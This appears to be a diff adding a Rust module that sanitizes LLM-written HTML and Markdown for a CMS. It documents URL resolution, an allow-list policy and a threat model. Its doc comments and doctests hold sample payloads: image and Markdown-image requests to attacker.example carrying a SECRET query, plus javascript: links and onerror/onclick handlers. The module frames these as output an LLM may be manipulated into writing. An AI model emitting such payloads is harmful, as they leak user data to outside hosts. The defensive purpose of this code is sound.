@@ -1,0 +1,113 @@
+//! Clean HTML and Markdown written by an LLM before it is stored or rendered.
+//!
+//! Built on [`ammonia`] (html5ever's parser, an allow-list, serialization) with a policy
+//! for CMS articles, plus what raw ammonia does not do:
+//!
+//! - **URLs are resolved before they are trusted.** Every `href`, `src` and `cite` is
+//!   parsed and resolved against the site as a browser would, so `//host`, `/\host`,
+//!   `\\host`, userinfo (`https://cdn@attacker/`) and look-alike hosts are judged by
+//!   where they lead. Images load only from the site and an allow-list of hosts: an LLM
+//!   talked into writing `<img src="https://attacker.example/?q=SECRET">` cannot
+//!   exfiltrate anything when the page renders.
+//! - **Stable output**: cleaning is repeated until it reaches a fixed point, so
+//!   `clean(clean(x)) == clean(x)` even for inputs where one ammonia pass is not
+//!   (nested links, ammonia issue #185).
+//! - **Text spoofing**: bidi overrides and zero-width spaces are removed (a link that
+//!   reads one way and goes another); emoji joiners, selectors and flag tags stay.
+//! - **Markdown** ([`sanitize_markdown`]): rendered with `pulldown-cmark`, then cleaned
+//!   by the same policy, so `![x](https://attacker.example/?q=SECRET)` is stopped too.
+//! - **Content blocks** ([`HtmlSanitizer::clean_blocks`]): every HTML field of the CMS's
+//!   JSON block structure.
+//!
+//! Every call counts `ai_output.sanitized{changed=true|false}`.
+//!
+//! # Example
+//!
+//! ```
+//! use tower_harden::sanitize::html::{sanitize_html, sanitize_markdown};
+//!
+//! let html = sanitize_html(
+//!     r#"<h2 dir="rtl">مرحبا</h2><p onclick="steal()">Souk <a href="javascript:x()">map</a>
+//!        <img src="https://attacker.example/p.png?q=SECRET" alt="pixel"></p>"#,
+//! );
+//! assert_eq!(
+//!     html,
+//!     "<h2 dir=\"rtl\">مرحبا</h2><p>Souk <a rel=\"noopener noreferrer nofollow\">map</a>\n       <img alt=\"pixel\"></p>",
+//! );
+//!
+//! let from_markdown = sanitize_markdown("**Gold Souk** ![x](https://attacker.example/?q=SECRET)");
+//! assert_eq!(from_markdown, "<p><strong>Gold Souk</strong> <img alt=\"x\"></p>\n");
+//! ```
+//!
+//! # Policy
+//!
+//! Kept: headings, paragraphs, lists (also definition lists and `details`), tables,
+//! blockquote, `q`, code and `pre`, emphasis and the other phrasing elements, `ruby`,
+//! links (http, https, mailto, tel, relative; with `rel="noopener noreferrer nofollow"`),
+//! images, `figure`/`figcaption`, `br`, `hr`; the attributes `lang`, `dir`, `title`,
+//! `datetime` and the few each element needs. Dropped: scripts, event handlers,
+//! `style` and CSS `url()`, forms, frames, `object`/`embed`, `base`, `meta`, `link`, SVG
+//! and MathML, `srcset`, `ping`, `background`, `poster`, `id` and `class` (DOM
+//! clobbering), comments.
+//!
+//! # Threat model
+//!
+//! Stops: script execution, navigation and requests outside the allow-list from the
+//! cleaned markup when rendered in a page of its own (no inline script or style of the
+//! page may interpret it). Does not stop: misleading but harmless content (a link to a
+//! scam site over https, false text): that is an editorial concern. Relative URLs are
+//! trusted to stay on the site: serve user uploads from a separate origin.
+
+mod blocks;
+mod policy;
+mod urls;
+
+use std::sync::LazyLock;
+
+pub use self::blocks::{BlocksReport, DEFAULT_HTML_FIELDS};
+pub use self::policy::{HtmlPolicyError, HtmlSanitizer, HtmlSanitizerBuilder};
+pub use self::urls::LinkHosts;
+
+/// Whether a clean changed its input.
+#[derive(Debug, Clone, Copy)]
+pub(crate) struct CleanOutcome {
+    pub(crate) changed: bool,
+}
+
+static DEFAULT: LazyLock<HtmlSanitizer> = LazyLock::new(HtmlSanitizer::new);
+
+/// Cleans LLM-written HTML with the CMS default policy (same-site images only). For an
+/// image-host allow-list or your site's origin, build an [`HtmlSanitizer`].
+///
+/// ```
+/// use tower_harden::sanitize::html::sanitize_html;
+///
+/// assert_eq!(sanitize_html("<p>Fish &amp; chips<script>alert(1)</script></p>"), "<p>Fish &amp; chips</p>");
+/// ```
+pub fn sanitize_html(html: &str) -> String {
+    DEFAULT.clean(html)
+}
+
+/// Renders LLM-written Markdown (CommonMark with tables and strikethrough) and cleans the
+/// HTML with the CMS default policy. Raw HTML inside the Markdown is cleaned the same way.
+///
+/// ```
+/// use tower_harden::sanitize::html::sanitize_markdown;
+///
+/// let html = sanitize_markdown("[Visit](javascript:alert(1)) <img src=x onerror=alert(1)>");
+/// assert_eq!(html, "<p><a rel=\"noopener noreferrer nofollow\">Visit</a> <img src=\"x\"></p>\n");
+/// ```
+pub fn sanitize_markdown(markdown: &str) -> String {
+    DEFAULT.clean_markdown(markdown)
+}
+
+impl HtmlSanitizer {
+    /// Renders `markdown` and cleans the HTML with this policy.
+    pub fn clean_markdown(&self, markdown: &str) -> String {
+        use pulldown_cmark::{Options, Parser, html};
+        let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
+        let mut rendered = String::with_capacity(markdown.len() * 3 / 2);
+        html::push_html(&mut rendered, Parser::new_ext(markdown, options));
+        self.clean(&rendered)
+    }
+}
